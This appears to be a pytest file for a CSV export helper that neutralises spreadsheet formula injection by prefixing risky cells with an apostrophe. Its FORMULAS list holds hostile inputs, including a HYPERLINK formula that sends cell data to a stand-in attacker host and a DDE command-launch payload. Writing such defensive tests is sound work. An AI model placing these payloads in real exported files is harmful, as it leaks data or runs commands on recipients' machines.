"""CSV for spreadsheets: text from outside is never a formula, and amounts stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from pipelines.cli.spreadsheet import as_text, write_rows

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tx",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u00a0=1",
    "\u3000@x",
    '"=1+1"',
    "' =1",
    "\u201c=1",
    "\ufeff=1",
    "\u200b+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u22121",
    "\x00=1",
]
PLAIN = [
    "city-hero",
    "openai/sora-2",
    "",
    "2026-11-29T10:00:00+00:00",
    "a=b",
    "1-2",
    "user@example.org",
    "it's",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_execute_gets_an_apostrophe(text: str) -> None:
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text


def test_amounts_stay_numbers_also_below_zero() -> None:
    file = io.StringIO()
    amounts = [Decimal("-0.5"), Decimal("0.000001"), Decimal(1200), Decimal("1.10"), None, Decimal(0)]
    assert write_rows(file, ["a", "b", "c", "d", "e", "f"], [amounts]) == 1
    assert file.getvalue().splitlines()[1] == "-0.5,0.000001,1200,1.1,,0"


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN, "x\r=1", "x\n=1", 'say "=1", then', "a,=1"])
def test_a_text_is_one_cell_and_read_back_unchanged(text: str) -> None:
    file = io.StringIO()
    write_rows(file, ["first", "second"], [["x", text]])
    (row,) = list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]
    assert row == ["x", as_text(text)]
